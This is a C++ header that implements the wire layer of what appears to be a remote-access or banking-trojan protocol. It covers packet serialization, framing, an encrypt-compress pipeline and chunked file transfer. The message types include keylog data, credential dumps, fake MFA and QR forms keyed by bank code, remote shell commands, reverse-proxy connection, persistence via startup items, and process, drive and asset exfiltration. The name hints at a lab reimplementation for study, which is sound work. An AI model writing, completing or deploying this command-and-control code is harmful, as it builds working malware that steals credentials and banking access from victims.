// Wire layer: canonical packet serialization (1-byte tag, fields in declared
// order, little-endian integers, length-prefixed strings), length-prefixed
// framing, the compress-then-encrypt pipeline, and block-based file transfer.

#pragma once

#include <algorithm>
#include <numeric>

#include "bqlab/codec.hpp"
#include "bqlab/packet.hpp"

namespace bqlab::wire {

inline constexpr std::size_t kDefaultMaxBlock = 65535;

namespace detail {

class Writer {
public:
    void u8(std::uint8_t v) { out_.push_back(v); }
    void u16(std::uint16_t v) {
        for (int i = 0; i < 2; ++i) out_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
    }
    void u32(std::uint32_t v) {
        for (int i = 0; i < 4; ++i) out_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
    }
    void u64(std::uint64_t v) {
        for (int i = 0; i < 8; ++i) out_.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
    }
    void i32(std::int32_t v) { u32(static_cast<std::uint32_t>(v)); }
    void str(const std::string& s) {
        u32(static_cast<std::uint32_t>(s.size()));
        out_.insert(out_.end(), s.begin(), s.end());
    }
    void bytes(const Bytes& b) {
        u32(static_cast<std::uint32_t>(b.size()));
        out_.insert(out_.end(), b.begin(), b.end());
    }
    void optStr(const std::optional<std::string>& s) {
        u8(s.has_value() ? 1 : 0);
        if (s) str(*s);
    }
    void strMap(const std::map<std::string, std::string>& m) {
        u32(static_cast<std::uint32_t>(m.size()));
        for (const auto& [k, v] : m) {
            str(k);
            str(v);
        }
    }
    template <class T, class F>
    void list(const std::vector<T>& items, F&& each) {
        u32(static_cast<std::uint32_t>(items.size()));
        for (const auto& item : items) each(item);
    }

    Bytes take() { return std::move(out_); }

private:
    Bytes out_;
};

class Reader {
public:
    explicit Reader(ByteView data) : data_(data) {}

    std::uint8_t u8() { return take(1)[0]; }
    std::uint16_t u16() { return static_cast<std::uint16_t>(le(2)); }
    std::uint32_t u32() { return static_cast<std::uint32_t>(le(4)); }
    std::uint64_t u64() { return le(8); }
    std::int32_t i32() { return static_cast<std::int32_t>(u32()); }
    std::string str() {
        std::size_t n = u32();
        auto v = take(n);
        return std::string(v.begin(), v.end());
    }
    Bytes bytes() {
        std::size_t n = u32();
        auto v = take(n);
        return Bytes(v.begin(), v.end());
    }
    std::optional<std::string> optStr() {
        return u8() ? std::optional<std::string>(str()) : std::nullopt;
    }
    std::map<std::string, std::string> strMap() {
        std::map<std::string, std::string> m;
        std::size_t n = u32();
        for (std::size_t i = 0; i < n; ++i) {
            auto k = str();
            m.emplace(std::move(k), str());
        }
        return m;
    }
    template <class T, class F>
    std::vector<T> list(F&& each) {
        std::size_t n = u32();
        std::vector<T> items;
        items.reserve(std::min<std::size_t>(n, 4096));
        for (std::size_t i = 0; i < n; ++i) items.push_back(each());
        return items;
    }

    void expectEnd() const {
        if (pos_ != data_.size()) throw TruncatedField("trailing bytes after packet payload");
    }

private:
    ByteView take(std::size_t n) {
        if (pos_ + n > data_.size()) throw TruncatedField("field extends past end of buffer");
        ByteView v = data_.subspan(pos_, n);
        pos_ += n;
        return v;
    }
    std::uint64_t le(int n) {
        auto v = take(static_cast<std::size_t>(n));
        std::uint64_t r = 0;
        for (int i = 0; i < n; ++i) r |= static_cast<std::uint64_t>(v[i]) << (8 * i);
        return r;
    }

    ByteView data_;
    std::size_t pos_ = 0;
};

// Field layouts, one overload pair per payload-carrying variant.
template <class T>
void writeFields(Writer&, const T&) {} // payload-less stubs

inline void writeFields(Writer& w, const AddStartupItem& p) {
    w.str(p.path);
    w.str(p.keyName);
}
inline void writeFields(Writer& w, const RemoveStartupItem& p) { w.str(p.keyName); }
inline void writeFields(Writer& w, const KillProcess& p) { w.u32(p.pid); }
inline void writeFields(Writer& w, const StartProcess& p) {
    w.str(p.path);
    w.str(p.args);
}
inline void writeFields(Writer& w, const InputDeviceAction& p) {
    w.str(p.kind);
    w.bytes(p.payload);
}
inline void writeFields(Writer& w, const ShowMessageBox& p) { w.str(p.text); }
inline void writeFields(Writer& w, const ShowMfaForm& p) { w.str(p.bankCode); }
inline void writeFields(Writer& w, const ShowQrForm& p) { w.str(p.bankCode); }
inline void writeFields(Writer& w, const RfidCommand& p) {
    w.i32(p.code);
    w.str(p.argument);
}
inline void writeFields(Writer& w, const ShellCommand& p) { w.str(p.commandLine); }
inline void writeFields(Writer& w, const RenamePath& p) {
    w.str(p.from);
    w.str(p.to);
}
inline void writeFields(Writer& w, const ConnectReverseProxy& p) {
    w.str(p.host);
    w.u16(p.port);
}
inline void writeFields(Writer& w, const BasicAssetInfo& p) {
    w.str(p.machineName);
    w.str(p.dateTime);
    w.list(p.pluginCodes, [&](const std::string& s) { w.str(s); });
}
inline void writeFields(Writer& w, const AssetInfoExtended& p) { w.strMap(p.fields); }
inline void writeFields(Writer& w, const ProcessList& p) {
    w.list(p.entries, [&](const ProcessEntry& e) {
        w.u32(e.pid);
        w.str(e.image);
        w.str(e.commandLine);
        w.str(e.parentImage);
    });
}
inline void writeFields(Writer& w, const DriveList& p) {
    w.list(p.entries, [&](const DriveEntry& e) {
        w.str(e.letter);
        w.str(e.label);
        w.u64(e.capacityBytes);
    });
}
inline void writeFields(Writer& w, const MonitorSettings& p) { w.strMap(p.fields); }
inline void writeFields(Writer& w, const StartupItems& p) {
    w.list(p.entries, [&](const StartupItem& e) {
        w.str(e.location);
        w.str(e.name);
        w.str(e.command);
    });
}
inline void writeFields(Writer& w, const KeylogData& p) { w.str(p.text); }
inline void writeFields(Writer& w, const CredentialDump& p) {
    w.list(p.entries, [&](const CredentialEntry& e) {
        w.str(e.source);
        w.str(e.username);
        w.str(e.secret);
    });
}
inline void writeFields(Writer& w, const FileBlockMsg& p) {
    w.str(p.block.filename);
    w.bytes(p.block.payload);
    w.u32(p.block.index);
    w.optStr(p.block.error);
    w.u64(p.block.totalLength);
}
inline void writeFields(Writer& w, const Ack& p) { w.u8(p.refTag); }
inline void writeFields(Writer& w, const ErrorReport& p) { w.str(p.text); }
inline void writeFields(Writer& w, const GeoReport& p) {
    w.str(p.geo.ip);
    w.str(p.geo.country);
    w.str(p.geo.countryCode);
    w.str(p.geo.flagName);
}

template <class T>
T readFields(Reader&) {
    return T{};
}

template <>
inline AddStartupItem readFields(Reader& r) {
    AddStartupItem p;
    p.path = r.str();
    p.keyName = r.str();
    return p;
}
template <>
inline RemoveStartupItem readFields(Reader& r) {
    return {r.str()};
}
template <>
inline KillProcess readFields(Reader& r) {
    return {r.u32()};
}
template <>
inline StartProcess readFields(Reader& r) {
    StartProcess p;
    p.path = r.str();
    p.args = r.str();
    return p;
}
template <>
inline InputDeviceAction readFields(Reader& r) {
    InputDeviceAction p;
    p.kind = r.str();
    p.payload = r.bytes();
    return p;
}
template <>
inline ShowMessageBox readFields(Reader& r) {
    return {r.str()};
}
template <>
inline ShowMfaForm readFields(Reader& r) {
    return {r.str()};
}
template <>
inline ShowQrForm readFields(Reader& r) {
    return {r.str()};
}
template <>
inline RfidCommand readFields(Reader& r) {
    RfidCommand p;
    p.code = r.i32();
    p.argument = r.str();
    return p;
}
template <>
inline ShellCommand readFields(Reader& r) {
    return {r.str()};
}
template <>
inline RenamePath readFields(Reader& r) {
    RenamePath p;
    p.from = r.str();
    p.to = r.str();
    return p;
}
template <>
inline ConnectReverseProxy readFields(Reader& r) {
    ConnectReverseProxy p;
    p.host = r.str();
    p.port = r.u16();
    return p;
}
template <>
inline BasicAssetInfo readFields(Reader& r) {
    BasicAssetInfo p;
    p.machineName = r.str();
    p.dateTime = r.str();
    p.pluginCodes = r.list<std::string>([&] { return r.str(); });
    return p;
}
template <>
inline AssetInfoExtended readFields(Reader& r) {
    return {r.strMap()};
}
template <>
inline ProcessList readFields(Reader& r) {
    ProcessList p;
    p.entries = r.list<ProcessEntry>([&] {
        ProcessEntry e;
        e.pid = r.u32();
        e.image = r.str();
        e.commandLine = r.str();
        e.parentImage = r.str();
        return e;
    });
    return p;
}
template <>
inline DriveList readFields(Reader& r) {
    DriveList p;
    p.entries = r.list<DriveEntry>([&] {
        DriveEntry e;
        e.letter = r.str();
        e.label = r.str();
        e.capacityBytes = r.u64();
        return e;
    });
    return p;
}
template <>
inline MonitorSettings readFields(Reader& r) {
    return {r.strMap()};
}
template <>
inline StartupItems readFields(Reader& r) {
    StartupItems p;
    p.entries = r.list<StartupItem>([&] {
        StartupItem e;
        e.location = r.str();
        e.name = r.str();
        e.command = r.str();
        return e;
    });
    return p;
}
template <>
inline KeylogData readFields(Reader& r) {
    return {r.str()};
}
template <>
inline CredentialDump readFields(Reader& r) {
    CredentialDump p;
    p.entries = r.list<CredentialEntry>([&] {
        CredentialEntry e;
        e.source = r.str();
        e.username = r.str();
        e.secret = r.str();
        return e;
    });
    return p;
}
template <>
inline FileBlockMsg readFields(Reader& r) {
    FileBlockMsg p;
    p.block.filename = r.str();
    p.block.payload = r.bytes();
    p.block.index = r.u32();
    p.block.error = r.optStr();
    p.block.totalLength = r.u64();
    return p;
}
template <>
inline Ack readFields(Reader& r) {
    return {r.u8()};
}
template <>
inline ErrorReport readFields(Reader& r) {
    return {r.str()};
}
template <>
inline GeoReport readFields(Reader& r) {
    GeoReport p;
    p.geo.ip = r.str();
    p.geo.country = r.str();
    p.geo.countryCode = r.str();
    p.geo.flagName = r.str();
    return p;
}

} // namespace detail

inline Bytes serializePacket(const Packet& p) {
    detail::Writer w;
    w.u8(tagOf(p));
    std::visit([&](const auto& v) { detail::writeFields(w, v); }, p);
    return w.take();
}

inline Packet deserializePacket(ByteView data) {
    if (data.empty()) throw TruncatedField("empty packet buffer");
    detail::Reader r(data.subspan(1));
    const std::uint8_t tag = data[0];

    Packet p;
    switch (tag) {
#define BQLAB_CASE(type)                                \
    case PacketTraits<type>::kTag:                      \
        p = detail::readFields<type>(r);                \
        break;
        BQLAB_CASE(Reconnect)
        BQLAB_CASE(Disconnect)
        BQLAB_CASE(UninstallPersistence)
        BQLAB_CASE(GetStartupItems)
        BQLAB_CASE(AddStartupItem)
        BQLAB_CASE(RemoveStartupItem)
        BQLAB_CASE(ExfilMonitorSettings)
        BQLAB_CASE(ExfilProcesses)
        BQLAB_CASE(ExfilDrives)
        BQLAB_CASE(KillProcess)
        BQLAB_CASE(StartProcess)
        BQLAB_CASE(ExfilAssetInfo)
        BQLAB_CASE(InputDeviceAction)
        BQLAB_CASE(ShowMessageBox)
        BQLAB_CASE(ShowMfaForm)
        BQLAB_CASE(ShowQrForm)
        BQLAB_CASE(RfidCommand)
        BQLAB_CASE(ShellCommand)
        BQLAB_CASE(RenamePath)
        BQLAB_CASE(Shutdown)
        BQLAB_CASE(Reboot)
        BQLAB_CASE(CancelDownloads)
        BQLAB_CASE(ConnectReverseProxy)
        BQLAB_CASE(RequestLogs)
        BQLAB_CASE(RequestCredentials)
        BQLAB_CASE(BasicAssetInfo)
        BQLAB_CASE(AssetInfoExtended)
        BQLAB_CASE(ProcessList)
        BQLAB_CASE(DriveList)
        BQLAB_CASE(MonitorSettings)
        BQLAB_CASE(StartupItems)
        BQLAB_CASE(KeylogData)
        BQLAB_CASE(CredentialDump)
        BQLAB_CASE(FileBlockMsg)
        BQLAB_CASE(Ack)
        BQLAB_CASE(ErrorReport)
        BQLAB_CASE(GeoReport)
#undef BQLAB_CASE
        default:
            throw UnknownTag("unassigned packet tag " + std::to_string(tag));
    }
    r.expectEnd();
    return p;
}

// ---- framing ----

/// Length-prefixed wire unit; the body is a serialized Envelope.
struct Frame {
    Bytes body;

    bool operator==(const Frame&) const = default;

    Bytes serialize() const {
        detail::Writer w;
        w.u32(static_cast<std::uint32_t>(body.size()));
        Bytes out = w.take();
        out.insert(out.end(), body.begin(), body.end());
        return out;
    }
};

/// Reads one frame starting at `offset`; advances `offset` past it.
inline Frame readFrame(ByteView data, std::size_t& offset) {
    if (offset + 4 > data.size()) throw FrameLengthMismatch("frame length prefix truncated");
    std::uint32_t len = 0;
    for (int i = 0; i < 4; ++i) len |= static_cast<std::uint32_t>(data[offset + i]) << (8 * i);
    offset += 4;
    if (len < 32) throw FrameLengthMismatch("frame body shorter than a minimal envelope");
    if (offset + len > data.size()) throw FrameLengthMismatch("frame body truncated");
    Frame f{Bytes(data.begin() + offset, data.begin() + offset + len)};
    offset += len;
    return f;
}

// ---- full pipeline ----

inline Frame encodeMessage(const Packet& p, const codec::SessionKey& key,
                           codec::CompressionLevel level, ByteView iv) {
    const Bytes packed = serializePacket(p);
    const Bytes squeezed = codec::compress(packed, level);
    return Frame{codec::seal(squeezed, key, iv).serialize()};
}

inline Packet decodeMessage(const Frame& f, const codec::SessionKey& key) {
    const auto env = codec::Envelope::parse(f.body);
    const Bytes squeezed = codec::open(env, key);
    const Bytes packed = codec::decompress(squeezed);
    return deserializePacket(packed);
}

// ---- block transfer ----

/// Splits a file into blocks of at most maxBlock payload bytes. An empty file
/// still yields one empty block so the name and length cross the wire.
inline std::vector<FileBlock> chunkFile(const std::string& filename, ByteView bytes,
                                        std::size_t maxBlock) {
    if (maxBlock == 0) throw BadLength("maxBlock must be positive");
    std::vector<FileBlock> blocks;
    const std::uint64_t total = bytes.size();
    std::size_t off = 0;
    std::uint32_t index = 0;
    do {
        const std::size_t n = std::min(maxBlock, bytes.size() - off);
        FileBlock b;
        b.filename = filename;
        b.payload.assign(bytes.begin() + off, bytes.begin() + off + n);
        b.index = index++;
        b.totalLength = total;
        blocks.push_back(std::move(b));
        off += n;
    } while (off < bytes.size());
    return blocks;
}

/// Receiver-side supervisor; accepts blocks in any order, tolerates identical
/// duplicates and flags conflicting ones.
struct BlockTransfer {
    std::string filename;
    std::uint64_t totalLength = 0;
    std::map<std::uint32_t, Bytes> received;

    void ingest(const FileBlock& block) {
        if (filename.empty() && received.empty()) {
            filename = block.filename;
            totalLength = block.totalLength;
        }
        auto it = received.find(block.index);
        if (it != received.end()) {
            if (it->second != block.payload)
                throw OverlappingBlock("conflicting payload for block " +
                                       std::to_string(block.index));
            return;
        }
        received.emplace(block.index, block.payload);
    }

    bool complete() const {
        std::uint64_t sum = 0;
        std::uint32_t expected = 0;
        for (const auto& [idx, payload] : received) {
            if (idx != expected++) return false;
            sum += payload.size();
        }
        if (sum != totalLength) return false;
        return totalLength == 0 ? received.size() == 1 : true;
    }

    std::vector<std::uint32_t> missingIndexes() const {
        std::vector<std::uint32_t> missing;
        std::uint64_t sum = 0;
        std::uint32_t next = 0;
        std::uint64_t blockSize = 0;
        for (const auto& [idx, payload] : received) {
            while (next < idx) missing.push_back(next++);
            ++next;
            sum += payload.size();
            blockSize = std::max<std::uint64_t>(blockSize, payload.size());
        }
        if (received.empty() && totalLength > 0) {
            missing.push_back(0);
            return missing;
        }
        // trailing gap: interior holes are assumed to be full-size blocks, the
        // remainder tells us how many more blocks the declared length requires
        std::uint64_t believed = sum + missing.size() * blockSize;
        if (believed < totalLength && blockSize > 0) {
            std::uint64_t still = totalLength - believed;
            while (still > 0) {
                missing.push_back(next++);
                still -= std::min<std::uint64_t>(still, blockSize);
            }
        }
        return missing;
    }
};

inline std::pair<std::string, Bytes> reassemble(const BlockTransfer& transfer) {
    if (!transfer.complete()) throw MissingBlock(transfer.missingIndexes());
    Bytes out;
    out.reserve(transfer.totalLength);
    for (const auto& [idx, payload] : transfer.received)
        out.insert(out.end(), payload.begin(), payload.end());
    return {transfer.filename, std::move(out)};
}

} // namespace bqlab::wire
